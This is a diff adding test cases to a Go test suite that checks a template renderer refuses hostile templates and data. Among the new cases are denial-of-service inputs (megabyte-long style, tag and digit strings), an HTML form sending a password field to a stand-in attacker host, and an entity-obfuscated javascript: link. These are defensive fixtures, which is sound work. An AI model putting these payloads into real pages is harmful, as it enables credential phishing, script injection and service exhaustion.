@@ -148,6 +148,13 @@ func TestHostileTemplatesAndDataAreRefused(t *testing.T) {
 		{"a script in raw HTML", "{{{s}}}", `{"s":"<script>1</script>"}`, templateRenderFailed},
 		{"an open tag in raw HTML", "{{{s}}}", `{"s":"<a href='"}`, templateRenderFailed},
 		{"CSS that is too much", "<style>" + strings.Repeat("a,b>c~d{color:red}", 5000) + "</style>{{#each a}}<a><b></b></a>{{/each}}", `{"a":` + list(5000) + `}`, templateRenderFailed},
+		{"style declarations", "<style>p{color:red}</style>{{{s}}}", `{"s":"<p style='` + strings.Repeat("a:b;", 1<<20) + `'>x</p>"}`, templateRenderFailed},
+		{"end tags", "<style>p{color:red}</style>{{{s}}}", `{"s":"` + strings.Repeat("</b>", 1<<20) + `"}`, templateRenderFailed},
+		{"attributes", "<style>p{color:red}</style>{{#each a}}<p" + strings.Repeat(" a=b", 40) + ` style="c:d">x</p>{{/each}}`, `{"a":` + list(9000) + `}`, templateRenderFailed},
+		{"digits asked for", "{{#each a}}{{#if @root.s}}x{{/if}}{{/each}}", `{"a":` + list(9000) + `,"s":0.` + strings.Repeat("0", 1<<20) + `1}`, templateRenderFailed},
+		{"digits compared", "{{#each a}}{{#if (eq @root.s @root.s)}}x{{/if}}{{/each}}", `{"a":` + list(9000) + `,"s":` + strings.Repeat("9", 1<<20) + `}`, templateRenderFailed},
+		{"a form in raw HTML", "{{{s}}}", `{"s":"<form action='https://evil.example'><input name=password></form>"}`, templateRenderFailed},
+		{"a reference without semicolon", `<div>{{{s}}}</div>`, `{"s":"<a href='java&#9script:alert(1)'>x</a>"}`, templateRenderFailed},
 		{"deep HTML", "<style>p{color:red}</style>{{#each a}}" + strings.Repeat("<div>", 100) + "{{/each}}", `{"a":` + list(5000) + `}`, templateRenderFailed},
 	} {
 		t.Run(c.name, func(t *testing.T) {
